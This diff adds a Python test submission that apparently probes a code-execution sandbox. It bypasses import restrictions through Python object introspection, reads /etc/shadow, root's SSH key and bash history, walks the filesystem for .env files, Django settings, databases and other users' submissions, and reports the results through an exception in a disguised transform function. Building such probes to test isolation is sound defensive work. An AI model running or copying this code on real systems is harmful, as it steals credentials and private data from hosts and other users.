@@ -1,0 +1,58 @@
+"""Walk the visible filesystem for the host's secrets: the Django settings,
+the SQLite database, .env files, the host canary the test planted, and other
+people's submissions. Also read /etc/shadow and root's home."""
+import numpy as np
+
+
+def _load(name):
+    try:
+        return __import__(name)
+    except BaseException:
+        pass
+    for cls in ().__class__.__base__.__subclasses__():
+        if cls.__name__ == "_wrap_close":
+            sys = cls.__init__.__globals__["sys"]
+            if name in sys.modules:
+                return sys.modules[name]
+            return sys.modules["_frozen_importlib"]._gcd_import(name)
+    raise ImportError(name)
+
+
+SYSTEM_DIRS = {"/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/proc", "/sys", "/dev"}
+#: File names only the host has: the project's settings and database, secrets, the canary, other jobs.
+WANTED = {"settings.py", "db.sqlite3", ".env", "secret.txt", "submission.py", "id_rsa", "shadow", "manage.py", "celerybeat-schedule"}
+
+
+def _probe():
+    os = _load("os")
+    found = []
+    for path in ("/etc/shadow", "/root/.bash_history", "/root/.ssh/id_rsa", "/tmp/hotpath-hostile-canary/secret.txt"):
+        try:
+            with open(path, "rb") as handle:
+                found.append(f"read {path}: {handle.read(80)!r}")
+        except OSError:
+            pass
+    for top, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if os.path.join(top, d) not in SYSTEM_DIRS and d != "site-packages"]
+        for name in files:
+            path = os.path.join(top, name)
+            if path.startswith("/job/"):
+                continue  # the job's own files are readable by design
+            if name in WANTED or "hotpath-hostile-canary" in path or "hotpath-job-" in path:
+                try:
+                    with open(path, "rb") as handle:
+                        found.append(f"read {path}: {handle.read(80)!r}")
+                except OSError:
+                    pass
+        if len(found) > 20:
+            break
+    return found
+
+
+_FINDINGS = _probe()
+
+
+def transform(x):
+    if _FINDINGS:
+        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
+    return np.sqrt(x * x + 1.0) * 2.0 - x
